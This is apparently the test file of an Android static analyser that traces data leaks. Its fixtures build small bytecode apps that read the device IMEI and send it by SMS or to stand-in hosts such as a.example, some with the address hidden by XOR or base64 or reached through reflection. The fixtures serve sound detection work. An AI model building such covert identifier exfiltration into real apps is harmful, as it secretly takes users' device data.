//! Small apps, one way each.

mod branch;
mod guard;
mod keyed;
mod platform;

use std::sync::LazyLock;

use super::{App, Component, Field, Kind, Questions, Surface, What};
use crate::artifact::dex::Dex;
use crate::artifact::dex::build::{Asm, DexBuilder};
use crate::code::{Interest, analyse};
use crate::rule::Rules;

static RULES: LazyLock<Rules> = LazyLock::new(|| Rules::bundled().unwrap());

const ACTIVITY: &str = "La/Main;";
const PHONE: &str = "Landroid/telephony/TelephonyManager;";
const SMS: &str = "Landroid/telephony/SmsManager;";
const SEND: &str = "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V";
const STRING: &str = "Ljava/lang/String;";

/// `to = telephonyManager.getDeviceId()`
fn read(m: &mut Asm, to: u8) {
    m.invoke_virtual(PHONE, "getDeviceId", "()Ljava/lang/String;", &[to]);
    m.move_result_object(to);
}

/// `smsManager.sendTextMessage(null, null, text, null, null)`, in registers 0 and 8 to 13.
fn send(m: &mut Asm, text: u8) {
    m.const_int(0, 0);
    m.move_object(7, text);
    for register in 8..14 {
        m.move_object(register, 0);
    }
    m.move_object(11, 7);
    m.invoke_virtual(SMS, "sendTextMessage", SEND, &[8, 9, 10, 11, 12, 13]);
}

/// An activity and a service, and a field for a password.
fn app(guesses: bool) -> App {
    let component = |kind, class: &str| Component {
        kind,
        class: class.as_bytes().to_vec(),
        actions: Vec::new(),
    };
    App {
        components: vec![
            component(Kind::Activity, ACTIVITY),
            component(Kind::Service, "La/Service;"),
        ],
        fields: vec![Field {
            id: 0x7f01_0001,
            input: "textPassword",
        }],
        guesses,
    }
}

/// The app's leaks, as `category by channel`, and the way of the first.
fn leaks(build: impl FnOnce(&mut DexBuilder)) -> (Vec<String>, Vec<What>) {
    found(false, build)
}

/// As [`leaks`], with what lets one guess.
fn found(guesses: bool, build: impl FnOnce(&mut DexBuilder)) -> (Vec<String>, Vec<What>) {
    let mut dex = DexBuilder::new();
    build(&mut dex);
    let bytes = dex.build();
    let dexes = Dex::open(&bytes).dexes;
    let interest = Interest::new(&RULES);
    let reading = analyse(&dexes, &interest, &|text| text.windows(3).any(|w| w == b"://"));
    let app = app(guesses);
    let traced = reading.flows(
        &interest,
        &app,
        &["net", "sms"],
        &Surface::default(),
        &Questions::default(),
    );
    let all = traced.leaks.iter().map(|leak| {
        let category = &interest.identifier(leak.identifier).unwrap().category;
        let channel = &interest.sink(leak.row).unwrap().channel;
        let addresses: Vec<_> = leak
            .addresses
            .iter()
            .map(|a| String::from_utf8_lossy(a))
            .collect();
        let address = Some(addresses.join(" or ")).filter(|all| !all.is_empty());
        let address = address.map(|all| format!(" to {all}"));
        let guess = if leak.guess { "guess of " } else { "" };
        format!("{guess}{category} by {channel}{}", address.unwrap_or_default())
    });
    let all = all.collect();
    let way = traced
        .leaks
        .first()
        .map(|leak| leak.way.iter().map(|stop| stop.what).collect());
    (all, way.unwrap_or_default())
}

/// An activity whose `onCreate` does this; registers 14 and 15 are `this` and the bundle.
fn create(dex: &mut DexBuilder, code: impl FnOnce(&mut Asm)) {
    dex.class(ACTIVITY)
        .superclass("Landroid/app/Activity;")
        .virtual_method("onCreate", "(Landroid/os/Bundle;)V", 16, code);
}

#[test]
fn what_is_read_and_sent_in_one_method_is_a_flow() {
    let (all, way) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            send(m, 1);
            m.return_void();
        });
    });
    assert_eq!(all, ["imei by sms"]);
    assert_eq!(way, [What::Read, What::Leaves]);
}

#[test]
fn what_is_read_and_not_sent_is_none_and_what_is_sent_unread_neither() {
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            m.const_string(1, "hello");
            send(m, 1);
            m.return_void();
        });
    });
    assert_eq!(all, Vec::<String>::new());
}

#[test]
fn a_field_of_one_object_is_not_that_of_another() {
    let app = |sent: u8| {
        leaks(|dex| {
            dex.class("La/Box;").instance_field("text", STRING);
            create(dex, |m| {
                m.new_instance(1, "La/Box;").new_instance(2, "La/Box;");
                read(m, 3);
                m.iput(3, 1, "La/Box;", "text", STRING);
                m.iget(4, sent, "La/Box;", "text", STRING);
                send(m, 4);
                m.return_void();
            });
        })
        .0
    };
    assert_eq!(app(1), ["imei by sms"]);
    assert_eq!(app(2), Vec::<String>::new());
}

#[test]
fn a_method_called_gives_back_what_it_is_given_to_each_caller_its_own() {
    let (all, way) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            m.const_string(2, "hello");
            m.invoke_static(ACTIVITY, "same", "(Ljava/lang/String;)Ljava/lang/String;", &[1])
                .move_result_object(1);
            m.invoke_static(ACTIVITY, "same", "(Ljava/lang/String;)Ljava/lang/String;", &[2])
                .move_result_object(2);
            send(m, 2);
            send(m, 1);
            m.return_void();
        });
        dex.class(ACTIVITY)
            .method("same", "(Ljava/lang/String;)Ljava/lang/String;", 1, |m| {
                m.return_object(0);
            });
    });
    assert_eq!(all, ["imei by sms"]);
    assert!(
        way.starts_with(&[What::Read]) && way.ends_with(&[What::Leaves]),
        "{way:?}"
    );
}

#[test]
fn a_map_keeps_what_is_under_one_key_from_another() {
    let app = |asked: &str| {
        let map = "Ljava/util/HashMap;";
        leaks(|dex| {
            create(dex, |m| {
                m.new_instance(1, map);
                m.invoke_direct(map, "<init>", "()V", &[1]);
                read(m, 2);
                m.const_string(3, "imei");
                m.invoke_virtual(
                    map,
                    "put",
                    "(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;",
                    &[1, 3, 2],
                );
                m.const_string(3, asked);
                m.invoke_virtual(map, "get", "(Ljava/lang/Object;)Ljava/lang/Object;", &[1, 3]);
                m.move_result_object(4);
                send(m, 4);
                m.return_void();
            });
        })
        .0
    };
    assert_eq!(app("imei"), ["imei by sms"]);
    assert_eq!(app("name"), Vec::<String>::new());
}

#[test]
fn a_listener_that_the_system_is_given_is_called_back_with_what_it_holds() {
    let (all, _) = leaks(|dex| {
        dex.class("La/Click;")
            .interface("Landroid/view/View$OnClickListener;")
            .instance_field("text", STRING)
            .virtual_method("onClick", "(Landroid/view/View;)V", 16, |m| {
                m.iget(1, 14, "La/Click;", "text", STRING);
                send(m, 1);
                m.return_void();
            });
        create(dex, |m| {
            read(m, 1);
            m.new_instance(2, "La/Click;");
            m.iput(1, 2, "La/Click;", "text", STRING);
            m.invoke_virtual(
                "Landroid/view/View;",
                "setOnClickListener",
                "(Landroid/view/View$OnClickListener;)V",
                &[3, 2],
            );
            m.return_void();
        });
    });
    assert_eq!(all, ["imei by sms"]);
}

#[test]
fn an_intent_carries_an_extra_to_the_component_that_it_names() {
    let intent = "Landroid/content/Intent;";
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            m.new_instance(2, intent).const_class(3, "La/Service;");
            m.invoke_direct(
                intent,
                "<init>",
                "(Landroid/content/Context;Ljava/lang/Class;)V",
                &[2, 14, 3],
            );
            m.const_string(3, "id");
            m.invoke_virtual(
                intent,
                "putExtra",
                "(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;",
                &[2, 3, 1],
            );
            m.invoke_virtual(
                "Landroid/app/Activity;",
                "startService",
                "(Landroid/content/Intent;)Landroid/content/ComponentName;",
                &[14, 2],
            );
            m.return_void();
        });
        dex.class("La/Service;")
            .superclass("Landroid/app/Service;")
            .virtual_method("onStartCommand", "(Landroid/content/Intent;II)I", 16, |m| {
                m.const_string(1, "id");
                m.invoke_virtual(
                    intent,
                    "getStringExtra",
                    "(Ljava/lang/String;)Ljava/lang/String;",
                    &[13, 1],
                );
                m.move_result_object(1);
                m.move_object(2, 1);
                send(m, 2);
                m.const_int(0, 0).return_(0);
            });
    });
    assert_eq!(all, ["imei by sms"]);
}

#[test]
fn a_method_that_is_called_by_its_name_is_called() {
    let class = "Ljava/lang/Class;";
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            m.const_class(1, PHONE)
                .const_string(2, "getDeviceId")
                .const_int(3, 0);
            m.invoke_virtual(
                class,
                "getMethod",
                "(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;",
                &[1, 2, 3],
            );
            m.move_result_object(4);
            m.invoke_virtual(
                "Ljava/lang/reflect/Method;",
                "invoke",
                "(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;",
                &[4, 5, 3],
            );
            m.move_result_object(6);
            send(m, 6);
            m.return_void();
        });
    });
    assert_eq!(all, ["imei by sms"]);
}

#[test]
fn an_address_put_together_in_another_method_is_known_where_data_leaves() {
    let url = "Ljava/net/URL;";
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            m.const_string(2, "http://a.example/?id=");
            m.invoke_virtual(
                STRING,
                "concat",
                "(Ljava/lang/String;)Ljava/lang/String;",
                &[2, 1],
            );
            m.move_result_object(1);
            m.invoke_static(ACTIVITY, "open", "(Ljava/lang/String;)V", &[1]);
            m.return_void();
        });
        dex.class(ACTIVITY)
            .method("open", "(Ljava/lang/String;)V", 2, |m| {
                m.new_instance(0, url);
                m.invoke_direct(url, "<init>", "(Ljava/lang/String;)V", &[0, 1]);
                m.invoke_virtual(url, "openStream", "()Ljava/io/InputStream;", &[0]);
                m.return_void();
            });
    });
    assert!(
        all.contains(&"imei by net to http://a.example/?id={}".to_owned()),
        "{all:?}"
    );
}

#[test]
fn an_address_that_is_hidden_by_a_key_is_known_where_data_leaves() {
    let url = "Ljava/net/URL;";
    let of_text = "(Ljava/lang/String;)Ljava/lang/String;";
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            let hidden: String = "http://a.example/?id="
                .bytes()
                .map(|b| char::from(b ^ 5))
                .collect();
            m.const_string(2, &hidden);
            m.invoke_static("La/D;", "d", of_text, &[2]).move_result_object(2);
            m.invoke_virtual(STRING, "concat", of_text, &[2, 1]);
            m.move_result_object(1);
            m.new_instance(0, url);
            m.invoke_direct(url, "<init>", "(Ljava/lang/String;)V", &[0, 1]);
            m.invoke_virtual(url, "openStream", "()Ljava/io/InputStream;", &[0]);
            m.return_void();
        });
        dex.class("La/D;").method("d", of_text, 6, |m| {
            m.invoke_virtual(STRING, "toCharArray", "()[C", &[5])
                .move_result_object(0)
                .array_length(2, 0)
                .const_int(1, 0)
                .const_int(4, 1)
                .label("loop")
                .if_cmp(0x35, 1, 2, "end")
                .op_23x(0x49, 3, 0, 1)
                // xor-int/lit8
                .raw(&[0x03df, 0x0503])
                .op_12x(0x8e, 3, 3)
                .op_23x(0x50, 3, 0, 1)
                .op_12x(0xb0, 1, 4)
                .goto("loop")
                .label("end")
                .invoke_static(STRING, "valueOf", "([C)Ljava/lang/String;", &[0])
                .move_result_object(0)
                .return_object(0);
        });
    });
    assert!(
        all.contains(&"imei by net to http://a.example/?id={}".to_owned()),
        "{all:?}"
    );
}

/// Characters of the file are made a text, deciphered into an array, kept in a field, and taken from there.
#[test]
fn each_address_of_an_array_that_is_computed_is_known_where_data_leaves() {
    let url = "Ljava/net/URL;";
    let texts = "[Ljava/lang/String;";
    let of_text = "(Ljava/lang/String;)Ljava/lang/String;";
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            read(m, 1);
            m.new_instance(0, "La/H;")
                .invoke_direct("La/H;", "<init>", "()V", &[0]);
            m.iget(2, 0, "La/H;", "all", texts)
                .array_length(0, 2)
                .aget_object(2, 2, 0);
            m.const_int(0, 1).new_array(0, 0, "[C");
            m.fill_array_data(0, 2, b"/\0");
            m.invoke_static(STRING, "valueOf", "([C)Ljava/lang/String;", &[0])
                .move_result_object(0);
            for part in [0, 1] {
                m.invoke_virtual(STRING, "concat", of_text, &[2, part]);
                m.move_result_object(2);
            }
            m.new_instance(0, url);
            m.invoke_direct(url, "<init>", "(Ljava/lang/String;)V", &[0, 2]);
            m.invoke_virtual(url, "openStream", "()Ljava/io/InputStream;", &[0]);
            m.return_void();
        });
        let class = dex.class("La/H;");
        class
            .static_field("hidden", texts, None)
            .instance_field("all", texts);
        class.clinit(3, |m| {
            m.const_string(0, "aHR0cDovL2EuZXhhbXBsZQ==")
                .const_string(1, "aHR0cDovL2IuZXhhbXBsZQ==");
            m.filled_new_array(&[0, 1], texts).move_result_object(0);
            m.sput(0, "La/H;", "hidden", texts).return_void();
        });
        class.constructor("()V", 2, |m| {
            m.invoke_direct("Ljava/lang/Object;", "<init>", "()V", &[1]);
            m.invoke_static("La/H;", "all", "()[Ljava/lang/String;", &[])
                .move_result_object(0);
            m.iput(0, 1, "La/H;", "all", texts).return_void();
        });
        class.method("all", "()[Ljava/lang/String;", 5, |m| {
            m.const_int(0, 2).new_array(0, 0, texts);
            for n in 0..2 {
                m.sget(1, "La/H;", "hidden", texts).const_int(2, n);
                m.aget_object(1, 1, 2).const_int(3, 0);
                m.invoke_static(
                    "Landroid/util/Base64;",
                    "decode",
                    "(Ljava/lang/String;I)[B",
                    &[1, 3],
                );
                m.move_result_object(1).new_instance(3, STRING);
                m.invoke_direct(STRING, "<init>", "([B)V", &[3, 1])
                    .aput_object(3, 0, 2);
            }
            m.return_object(0);
        });
    });
    for host in ["a.example", "b.example"] {
        assert!(
            all.iter().any(|leak| leak.contains(&format!("{host}/"))),
            "{host}: {all:?}"
        );
    }
}

#[test]
fn code_that_nobody_starts_sends_nothing() {
    let (all, _) = leaks(|dex| {
        create(dex, |m| {
            m.return_void();
        });
        dex.class("La/Never;").method("f", "()V", 16, |m| {
            read(m, 1);
            send(m, 1);
            m.return_void();
        });
    });
    assert_eq!(all, Vec::<String>::new());
}
